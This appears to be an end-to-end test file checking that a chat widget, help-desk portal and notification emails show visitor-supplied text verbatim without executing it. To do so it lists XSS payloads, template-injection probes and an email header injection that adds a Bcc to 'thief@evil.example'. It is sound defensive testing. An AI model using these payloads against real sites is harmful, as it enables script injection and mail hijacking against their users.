// Whatever a visitor writes is text: it is shown as it was written, runs nowhere, and bends no mail.
import { expect, test } from "../fixtures/test.js";
import { Api, identity } from "../fixtures/api.js";
import { Portal } from "../fixtures/portal.js";
import { Widget } from "../fixtures/widget.js";

const SECRET = "a secret that only the host site and the desk know";

/** Each would open a dialog, which the fixtures count as a fault, or show its sum, if it ever ran. */
const PAYLOADS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(2)>",
  '"><svg onload=alert(3)>',
  "</textarea></title><script>alert(4)</script>",
  "javascript:alert(5)",
  "{{7*191}}${7*191}<%= 7*191 %>",
  "'-alert(6)-'",
  "&lt;b&gt; &amp; <b>bold</b>",
  "<a href=\"javascript:alert(7)\" onmouseover=alert(8)>here</a>",
  "<style>*{display:none}</style>",
  "http://x.example/\"onmouseover=alert(9)//",
  "Subject: bent\nBcc: thief@evil.example\n\n<script>alert(10)</script>",
];

const NAME = "<img src=x onerror=alert(11)>";

test.use({ settings: { visitors: { identity_secret: SECRET } } });

test("payloads in every field of a visitor are shown verbatim and run nowhere", async ({ visitor, admin, desk, host, mail, kim, language }) => {
  const widget = new Widget(visitor, language);
  const portal = new Portal(admin, desk);
  const hostile = `${host.origin}/?q=<script>alert(12)</script>&x="onload="alert(13)`;

  await visitor.addInitScript(
    ([token, name]) => {
      Object.assign(window, {
        deskbellSettings: { identity: token, context: { release: name, title: name } },
      });
      addEventListener("DOMContentLoaded", () => {
        document.title = String(name);
        setTimeout(() => {
          throw new Error(String(name));
        });
      });
    },
    [identity(SECRET, { sub: "42", name: NAME, email: "mina@guest.example" }), NAME],
  );
  // The host page's own error is part of the trip, not a fault of ours.
  visitor.removeAllListeners("pageerror");
  await visitor.goto(hostile);
  await widget.call();
  for (const payload of PAYLOADS) await widget.say(payload);
  await widget.lastIsDelivered();
  await widget.reads(PAYLOADS);

  const letter = await mail.mail("the call", (one) => one.to === kim.email);
  expect(letter.headers.has("bcc")).toBe(false);
  expect(letter.html).not.toContain("<script>");
  expect(letter.html).not.toContain(NAME);

  await portal.open(kim);
  await expect(admin.getByText(NAME).first()).toBeVisible();
  await portal.enter(1);
  await portal.reads(PAYLOADS);
  await expect(admin.getByText(NAME).first()).toBeVisible();
  await portal.join();
  await portal.say(PAYLOADS[0]);
  await widget.reads([...PAYLOADS, PAYLOADS[0]]);
  await portal.reads([...PAYLOADS, PAYLOADS[0]]);
});

test("payloads on the board are shown verbatim and run nowhere", async ({ visitor, admin, desk, host, mail, kim, language }) => {
  const widget = new Widget(visitor, language);
  const portal = new Portal(admin, desk);
  const title = "<script>alert(20)</script> \"><img src=x onerror=alert(21)>";
  const body = PAYLOADS.join("\n");

  await visitor.goto(host.origin);
  await widget.launcher.click();
  await widget.panel.getByRole("button", { name: widget.words.writePost }).click();
  await widget.post({ title, body, email: "mina@guest.example" });
  await expect(widget.panel.getByRole("heading", { name: title })).toBeVisible();

  const letter = await mail.mail("the post", (one) => one.to === kim.email);
  expect(letter.subject).not.toContain("\n");
  expect(letter.headers.has("bcc")).toBe(false);
  expect(letter.html).not.toContain("<script>");

  await admin.goto(portal.linkIn(letter.text));
  await portal.signIn(kim);
  await expect(admin.getByRole("heading", { name: title })).toBeVisible();
  await expect(admin.getByText("</textarea></title><script>alert(4)</script>")).toBeVisible();
  await portal.comment("</textarea><script>alert(22)</script>");
  await portal.goto("board");
  await expect(admin.getByText(title)).toBeVisible();

  const answer = await mail.mail("the comment", (one) => one.to === "mina@guest.example");
  expect(answer.html).not.toContain("<script>");
  const api = await Api.of(desk, kim);
  expect((await api.inquiries())[0]).toMatchObject({ title, body });
  expect(mail.mails().map((one) => one.to)).not.toContain("thief@evil.example");
});
